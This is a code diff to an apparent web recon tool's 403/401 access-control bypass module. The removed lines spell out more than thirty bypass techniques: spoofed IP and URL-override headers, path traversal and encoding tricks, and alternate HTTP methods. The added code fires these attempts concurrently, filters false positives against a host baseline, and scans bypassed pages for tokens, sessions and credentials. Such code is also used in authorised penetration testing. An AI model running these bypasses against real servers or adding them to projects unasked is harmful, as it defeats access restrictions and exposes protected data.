@@ -6,15 +6,92 @@ Advanced access control evasion techniques
 import aiohttp
 import asyncio
 import re
-from typing import Dict, List, Optional
+from typing import Dict, List, Optional, Tuple
 from urllib.parse import urlparse, urlunparse
 from rich.console import Console
-from bs4 import BeautifulSoup
+from modules.packs import register_pack, get_pack
+from modules.offload import parse_executor
+from modules.document import Document
+from modules.baseline import BASELINES, HostBaseline, fingerprint
 
 console = Console()
 
+# Target URLs attacked at once, and bypass requests in flight per host
+BYPASS_CONCURRENCY = 10
+BYPASS_HOST_CONCURRENCY = 8
 
-async def analyze_non_html_file(content: str, file_extension: str) -> Dict:
+# Per-request timeout (seconds)
+BYPASS_TIMEOUT = 10
+
+# Bypass attempt: (technique label, HTTP method, URL, request headers)
+BypassAttempt = Tuple[str, str, str, Dict[str, str]]
+
+
+class BypassTechniques:
+    """
+    Compiled 'bypass' pack: technique templates expanded per target URL
+    
+    Templates may use {path}, {path_upper}, {path_relative}, {url} and {origin}.
+    """
+    
+    def __init__(self, techniques: List[Dict], methods: List[str]):
+        """
+        Initialize techniques
+        
+        Args:
+            techniques: List of {'name', 'headers', 'path'} templates
+            methods: Alternative HTTP methods tried on the original URL
+        """
+        self.techniques = [
+            (technique['name'], dict(technique.get('headers', {})), technique.get('path', '{path}'))
+            for technique in techniques
+        ]
+        self.methods = [method.upper() for method in methods if method.upper() != 'GET']
+    
+    @classmethod
+    def from_pack(cls, data: dict) -> 'BypassTechniques':
+        """
+        Compile the 'bypass' pack (modules/signatures/bypass.json)
+        """
+        return cls(data.get('techniques', []), data.get('methods', []))
+    
+    def expand(self, url: str) -> Dict[str, Dict]:
+        """
+        Fill the technique templates in for a URL
+        
+        Args:
+            url: Target URL
+            
+        Returns:
+            Dictionary mapping technique name -> {'headers': ..., 'path': ...}
+        """
+        parsed = urlparse(url)
+        base_path = parsed.path.rstrip('/')
+        values = {
+            'path': base_path,
+            'path_upper': base_path.upper(),
+            'path_relative': '/' + base_path.lstrip('/'),
+            'url': url,
+            'origin': parsed.scheme + '://' + parsed.netloc
+        }
+        
+        techniques = {}
+        for name, headers, path in self.techniques:
+            try:
+                techniques[name.format_map(values)] = {
+                    'headers': {header: value.format_map(values) for header, value in headers.items()},
+                    'path': path.format_map(values)
+                }
+            except (KeyError, ValueError, IndexError):
+                # Malformed template in a user pack
+                continue
+        return techniques
+
+
+register_pack('bypass', 'bypass.json', BypassTechniques.from_pack)
+
+
+def analyze_non_html_file(content: str, file_extension: str) -> Dict:
     """
     Analyze non-HTML files like .htaccess, .env, .config, etc.
     
@@ -77,6 +154,23 @@ async def extract_page_info(html_content: str, headers: dict, requested_url: str
     """
     Extract useful information from bypassed page
     
+    Large pages are parsed in the shared process pool (see parse_page_info).
+    
+    Args:
+        html_content: HTML content of the page
+        headers: Response headers
+        requested_url: The originally requested URL to validate content match
+        
+    Returns:
+        Dictionary with extracted information
+    """
+    return await parse_executor.run(parse_page_info, html_content, dict(headers), requested_url)
+
+
+def parse_page_info(html_content: str, headers: dict, requested_url: str = '') -> Dict:
+    """
+    Extract useful information from bypassed page
+    
     Args:
         html_content: HTML content of the page
         headers: Response headers
@@ -103,6 +197,8 @@ async def extract_page_info(html_content: str, headers: dict, requested_url: str
         'file_type_analysis': None
     }
     
+    document = Document(html_content, requested_url, headers)
+    
     try:
         # Detect file type from URL
         file_extension = None
@@ -126,14 +222,10 @@ async def extract_page_info(html_content: str, headers: dict, requested_url: str
         # Parse based on content type
         if not is_html_content:
             # Non-HTML content - show raw file analysis
-            info['file_type_analysis'] = await analyze_non_html_file(html_content, file_extension)
-        
-        # Parse HTML
-        soup = BeautifulSoup(html_content, 'html.parser')
+            info['file_type_analysis'] = analyze_non_html_file(html_content, file_extension)
         
         # Extract title
-        if soup.title:
-            info['title'] = soup.title.string.strip() if soup.title.string else None
+        info['title'] = document.title
         
         # Check for sensitive keywords
         sensitive_keywords = [
@@ -143,7 +235,7 @@ async def extract_page_info(html_content: str, headers: dict, requested_url: str
             'jwt', 'session', 'cookie', 'bearer'
         ]
         
-        text_lower = html_content.lower()
+        text_lower = document.lower
         found_keywords = [kw for kw in sensitive_keywords if kw in text_lower]
         info['sensitive_keywords'] = found_keywords
         
@@ -228,14 +320,8 @@ async def extract_page_info(html_content: str, headers: dict, requested_url: str
         info['file_paths'] = list(set(info['file_paths']))[:10]
         
         # Get content preview (first 500 chars of visible text)
-        if soup.body:
-            text = soup.body.get_text(separator=' ', strip=True)
-            info['preview'] = text[:500] + '...' if len(text) > 500 else text
-        else:
-            # Fallback to raw content preview
-            clean_text = re.sub(r'<[^>]+>', ' ', html_content)
-            clean_text = re.sub(r'\s+', ' ', clean_text).strip()
-            info['preview'] = clean_text[:500] + '...' if len(clean_text) > 500 else clean_text
+        text = document.visible_text
+        info['preview'] = text[:500] + '...' if len(text) > 500 else text
         
     except Exception as e:
         info['parse_error'] = str(e)
@@ -243,13 +329,62 @@ async def extract_page_info(html_content: str, headers: dict, requested_url: str
     return info
 
 
-async def attempt_bypass(url: str, original_status: int) -> Dict:
+async def _try_attempt(session: aiohttp.ClientSession, limit: asyncio.Semaphore, attempt: BypassAttempt,
+                       baseline: HostBaseline = None) -> Optional[Tuple[BypassAttempt, int, Optional[str], dict]]:
     """
-    Attempt to bypass 403/401 access controls using various techniques
+    Send one bypass request under the host's concurrency limit
+    
+    Args:
+        session: Shared client session
+        limit: Semaphore bounding in-flight requests to the host
+        attempt: (technique label, HTTP method, URL, headers)
+        baseline: Host baseline; responses resembling it are not successes
+        
+    Returns:
+        Tuple of (attempt, status, body for 200s, headers) if the request
+        was let through (200 or 3xx) to a page unlike the baseline,
+        otherwise None
+    """
+    label, method, bypass_url, headers = attempt
+    try:
+        async with limit:
+            async with session.request(
+                method,
+                bypass_url,
+                headers=headers,
+                ssl=False,
+                allow_redirects=False
+            ) as response:
+                # Success! Bypassed the restriction (200 or 3xx redirect)
+                if response.status == 200 or (300 <= response.status < 400):
+                    content = await response.text() if response.status == 200 else None
+                    # Homepage echoes and soft errors are dropped before any parsing
+                    if baseline is not None and baseline.match(fingerprint(
+                            response.status, content or '', response.headers.get('Location'), bypass_url)):
+                        return None
+                    return attempt, response.status, content, dict(response.headers)
+    except Exception:
+        pass
+    return None
+
+
+async def attempt_bypass(url: str, original_status: int, session: aiohttp.ClientSession = None,
+                         host_limit: asyncio.Semaphore = None, baseline: HostBaseline = None) -> Dict:
+    """
+    Attempt to bypass 403/401 restrictions using various techniques
+    
+    Every technique (and every alternative HTTP method on the original URL)
+    is sent concurrently, at most BYPASS_HOST_CONCURRENCY at a time per
+    host; the first attempt that gets through cancels the rest. Responses
+    resembling the host's baseline (homepage, random 404, original 403)
+    do not count as getting through.
     
     Args:
         url: Target URL that returned 403/401
         original_status: The original HTTP status code (403 or 401)
+        session: Shared client session (a private one is opened if omitted)
+        host_limit: Semaphore shared by all attempts against this URL's host
+        baseline: Baseline of the host (built here if omitted)
         
     Returns:
         Dictionary with bypass results
@@ -268,260 +403,73 @@ async def attempt_bypass(url: str, original_status: int) -> Dict:
     if original_status not in [401, 403]:
         return result
     
+    if session is None:
+        timeout = aiohttp.ClientTimeout(total=BYPASS_TIMEOUT)
+        async with aiohttp.ClientSession(timeout=timeout) as own_session:
+            return await attempt_bypass(url, original_status, own_session, host_limit, baseline)
+    if host_limit is None:
+        host_limit = asyncio.Semaphore(BYPASS_HOST_CONCURRENCY)
+    if baseline is None:
+        baseline = await HostBaseline.build(session, url, host_limit)
+    
     # Parse URL
     parsed = urlparse(url)
-    base_path = parsed.path.rstrip('/')
-    
-    # Enhanced bypass techniques (30+ methods)
-    techniques = {
-        # HTTP Headers - IP Spoofing
-        'X-Originating-IP: 127.0.0.1': {
-            'headers': {'X-Originating-IP': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-Forwarded-For: 127.0.0.1': {
-            'headers': {'X-Forwarded-For': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-Forwarded: 127.0.0.1': {
-            'headers': {'X-Forwarded': '127.0.0.1'},
-            'path': base_path
-        },
-        'Forwarded-For: 127.0.0.1': {
-            'headers': {'Forwarded-For': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-Remote-IP: 127.0.0.1': {
-            'headers': {'X-Remote-IP': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-Remote-Addr: 127.0.0.1': {
-            'headers': {'X-Remote-Addr': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-ProxyUser-Ip: 127.0.0.1': {
-            'headers': {'X-ProxyUser-Ip': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-Original-URL: ' + base_path: {
-            'headers': {'X-Original-URL': base_path},
-            'path': base_path
-        },
-        'X-Rewrite-URL: ' + base_path: {
-            'headers': {'X-Rewrite-URL': base_path},
-            'path': base_path
-        },
-        'X-Custom-IP-Authorization: 127.0.0.1': {
-            'headers': {'X-Custom-IP-Authorization': '127.0.0.1'},
-            'path': base_path
-        },
-        'X-Forwarded-Host: localhost': {
-            'headers': {'X-Forwarded-Host': 'localhost'},
-            'path': base_path
-        },
-        'X-Host: localhost': {
-            'headers': {'X-Host': 'localhost'},
-            'path': base_path
-        },
-        
-        # HTTP Headers - Override Methods
-        'X-HTTP-Method-Override: GET': {
-            'headers': {'X-HTTP-Method-Override': 'GET'},
-            'path': base_path
-        },
-        'X-Original-HTTP-Method: GET': {
-            'headers': {'X-Original-HTTP-Method': 'GET'},
-            'path': base_path
-        },
-        
-        # Referer Bypass
-        'Referer: ' + url: {
-            'headers': {'Referer': url},
-            'path': base_path
-        },
-        'Referer: ' + parsed.scheme + '://' + parsed.netloc: {
-            'headers': {'Referer': parsed.scheme + '://' + parsed.netloc},
-            'path': base_path
-        },
-        
-        # Path Manipulation - Traversal
-        'Path: /%2e' + base_path: {
-            'headers': {},
-            'path': '/%2e' + base_path
-        },
-        'Path: /' + base_path.lstrip('/'): {
-            'headers': {},
-            'path': '/' + base_path.lstrip('/')
-        },
-        'Path: ' + base_path + '/.': {
-            'headers': {},
-            'path': base_path + '/.'
-        },
-        'Path: ' + base_path + '/..': {
-            'headers': {},
-            'path': base_path + '/..'
-        },
-        'Path: ' + base_path + '/./': {
-            'headers': {},
-            'path': base_path + '/./'
-        },
-        'Path: ' + base_path + '//': {
-            'headers': {},
-            'path': base_path + '//'
-        },
-        'Path: ' + base_path + '/.;/': {
-            'headers': {},
-            'path': base_path + '/.;/'
-        },
-        'Path: ' + base_path + ';': {
-            'headers': {},
-            'path': base_path + ';'
-        },
-        'Path: ' + base_path + '..;/': {
-            'headers': {},
-            'path': base_path + '..;/'
-        },
-        
-        # URL Encoding
-        'Path: ' + base_path + '%20': {
-            'headers': {},
-            'path': base_path + '%20'
-        },
-        'Path: ' + base_path + '%09': {
-            'headers': {},
-            'path': base_path + '%09'
-        },
-        'Path: ' + base_path + '%00': {
-            'headers': {},
-            'path': base_path + '%00'
-        },
-        'Path: ' + base_path + '%0a': {
-            'headers': {},
-            'path': base_path + '%0a'
-        },
-        'Path: ' + base_path + '%0d': {
-            'headers': {},
-            'path': base_path + '%0d'
-        },
-        'Path: ' + base_path + '%2f': {
-            'headers': {},
-            'path': base_path + '%2f'
-        },
-        
-        # Case Variation
-        'Path: ' + base_path.upper(): {
-            'headers': {},
-            'path': base_path.upper()
-        },
-        
-        # Trailing Slash
-        'Path: ' + base_path + '/': {
-            'headers': {},
-            'path': base_path + '/'
-        },
-        
-        # Combined techniques
-        'X-Forwarded-For + X-Original-URL': {
-            'headers': {
-                'X-Forwarded-For': '127.0.0.1',
-                'X-Original-URL': base_path
-            },
-            'path': base_path
-        }
-    }
     
-    timeout = aiohttp.ClientTimeout(total=10)
+    # Bypass techniques from the 'bypass' pack (30+ methods)
+    signatures = get_pack('bypass')
+    techniques = signatures.expand(url)
     
-    # HTTP methods to try
-    http_methods = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE']
+    # Techniques with GET, then alternative HTTP methods on the original URL
+    attempts: List[BypassAttempt] = []
+    for technique_name, technique_data in techniques.items():
+        # Construct bypass URL
+        bypass_url = urlunparse((
+            parsed.scheme,
+            parsed.netloc,
+            technique_data['path'],
+            parsed.params,
+            parsed.query,
+            parsed.fragment
+        ))
+        attempts.append((technique_name, 'GET', bypass_url, technique_data['headers']))
+    for method in signatures.methods:
+        attempts.append((f'HTTP Method: {method}', method, url, {}))
     
+    tasks = [asyncio.ensure_future(_try_attempt(session, host_limit, attempt, baseline)) for attempt in attempts]
+    success = None
     try:
-        async with aiohttp.ClientSession(timeout=timeout) as session:
-            # First try all techniques with GET
-            for technique_name, technique_data in techniques.items():
-                # Construct bypass URL
-                bypass_url = urlunparse((
-                    parsed.scheme,
-                    parsed.netloc,
-                    technique_data['path'],
-                    parsed.params,
-                    parsed.query,
-                    parsed.fragment
-                ))
-                
-                try:
-                    async with session.get(
-                        bypass_url,
-                        headers=technique_data['headers'],
-                        ssl=False,
-                        allow_redirects=False
-                    ) as response:
-                        # Success! Bypassed the restriction (200 or 3xx redirect)
-                        if response.status == 200 or (300 <= response.status < 400):
-                            result['bypassed'] = True
-                            result['technique'] = technique_name
-                            result['final_status'] = response.status
-                            result['bypass_url'] = bypass_url
-                            
-                            # Extract page information for 200 responses
-                            if response.status == 200:
-                                try:
-                                    content = await response.text()
-                                    result['page_info'] = await extract_page_info(content, dict(response.headers), url)
-                                except Exception:
-                                    result['page_info'] = {'error': 'Could not extract page info'}
-                            
-                            console.print(f"[bold green]🔓 BYPASS SUCCESS![/bold green]")
-                            console.print(f"    URL: [cyan]{url}[/cyan]")
-                            console.print(f"    Technique: [yellow]{technique_name}[/yellow]")
-                            console.print(f"    Status: [red]{original_status}[/red] → [green]{response.status}[/green]")
-                            
-                            return result
-                
-                except Exception:
-                    continue
-                
-                # Small delay to avoid rate limiting
-                await asyncio.sleep(0.05)
-            
-            # If GET didn't work, try different HTTP methods on original URL
-            console.print(f"[*] Trying alternative HTTP methods for: [cyan]{url}[/cyan]")
-            for method in http_methods[1:]:  # Skip GET as we already tried it
-                try:
-                    async with session.request(
-                        method,
-                        url,
-                        ssl=False,
-                        allow_redirects=False
-                    ) as response:
-                        if response.status == 200 or (300 <= response.status < 400):
-                            result['bypassed'] = True
-                            result['technique'] = f'HTTP Method: {method}'
-                            result['final_status'] = response.status
-                            result['bypass_url'] = url
-                            
-                            # Extract page information for 200 responses
-                            if response.status == 200:
-                                try:
-                                    content = await response.text()
-                                    result['page_info'] = await extract_page_info(content, dict(response.headers), url)
-                                except Exception:
-                                    result['page_info'] = {'error': 'Could not extract page info'}
-                            
-                            console.print(f"[bold green]🔓 BYPASS SUCCESS![/bold green]")
-                            console.print(f"    URL: [cyan]{url}[/cyan]")
-                            console.print(f"    Method: [yellow]{method}[/yellow]")
-                            console.print(f"    Status: [red]{original_status}[/red] → [green]{response.status}[/green]")
-                            
-                            return result
-                
-                except Exception:
-                    continue
-                
-                await asyncio.sleep(0.05)
+        for next_done in asyncio.as_completed(tasks):
+            success = await next_done
+            if success is not None:
+                break
+    finally:
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
     
-    except Exception:
-        pass
+    if success is None:
+        return result
+    
+    (label, method, bypass_url, _), status, content, headers = success
+    result['bypassed'] = True
+    result['technique'] = label
+    result['final_status'] = status
+    result['bypass_url'] = bypass_url
+    
+    # Extract page information for 200 responses
+    if content is not None:
+        try:
+            result['page_info'] = await extract_page_info(content, headers, url)
+        except Exception:
+            result['page_info'] = {'error': 'Could not extract page info'}
+    
+    console.print(f"[bold green]🔓 BYPASS SUCCESS![/bold green]")
+    console.print(f"    URL: [cyan]{url}[/cyan]")
+    if bypass_url == url and method != 'GET':
+        console.print(f"    Method: [yellow]{method}[/yellow]")
+    else:
+        console.print(f"    Technique: [yellow]{label}[/yellow]")
+    console.print(f"    Status: [red]{original_status}[/red] → [green]{status}[/green]")
     
     return result
 
@@ -530,6 +478,10 @@ async def attempt_bypass_multiple(urls_with_status: List[Dict]) -> Dict[str, Dic
     """
     Attempt to bypass multiple URLs with 403/401 status codes
     
+    URLs share one session; attempts against the same host share one
+    BYPASS_HOST_CONCURRENCY limit however many of its URLs run at once,
+    and one baseline built from the first of its URLs.
+    
     Args:
         urls_with_status: List of dicts with 'url' and 'status' keys
         
@@ -547,16 +499,39 @@ async def attempt_bypass_multiple(urls_with_status: List[Dict]) -> Dict[str, Dic
     
     console.print(f"\n[*] Attempting to bypass [yellow]{len(bypass_targets)}[/yellow] restricted URLs...")
     
-    # Create semaphore to limit concurrent requests
-    semaphore = asyncio.Semaphore(10)
+    # Create semaphore to limit concurrent URLs, and one limit per host
+    semaphore = asyncio.Semaphore(BYPASS_CONCURRENCY)
+    host_limits: Dict[str, asyncio.Semaphore] = {}
+    baselines: Dict[str, asyncio.Task] = {}
     
-    async def bypass_with_limit(item):
-        async with semaphore:
-            return await attempt_bypass(item['url'], item['status'])
+    timeout = aiohttp.ClientTimeout(total=BYPASS_TIMEOUT)
+    connector = aiohttp.TCPConnector(limit=BYPASS_CONCURRENCY * BYPASS_HOST_CONCURRENCY, ssl=False)
     
-    # Execute all bypass attempts concurrently
-    tasks = [bypass_with_limit(item) for item in bypass_targets]
-    results = await asyncio.gather(*tasks, return_exceptions=True)
+    async with aiohttp.ClientSession(timeout=timeout, connector=connector) as session:
+        async def bypass_with_limit(item):
+            host = urlparse(item['url']).netloc.lower()
+            host_limit = host_limits.setdefault(host, asyncio.Semaphore(BYPASS_HOST_CONCURRENCY))
+            async with semaphore:
+                baseline = baselines.get(host)
+                if baseline is None:
+                    baseline = baselines[host] = asyncio.ensure_future(
+                        HostBaseline.build(session, item['url'], host_limit))
+                return await attempt_bypass(item['url'], item['status'], session, host_limit,
+                                            await asyncio.shield(baseline))
+        
+        # Execute all bypass attempts concurrently
+        tasks = [bypass_with_limit(item) for item in bypass_targets]
+        results = await asyncio.gather(*tasks, return_exceptions=True)
+    
+    # Look-alike responses that were not counted as bypasses
+    rejected = {
+        name: sum(task.result().rejected[name] for task in baselines.values() if task.done() and not task.exception())
+        for name in BASELINES
+    }
+    if any(rejected.values()):
+        console.print(f"[*] Ignored [yellow]{sum(rejected.values())}[/yellow] look-alike responses "
+                      f"(homepage echoes: {rejected['homepage']}, soft 404s: {rejected['not_found']}, "
+                      f"original error pages: {rejected['forbidden']})")
     
     # Organize results
     bypass_data = {}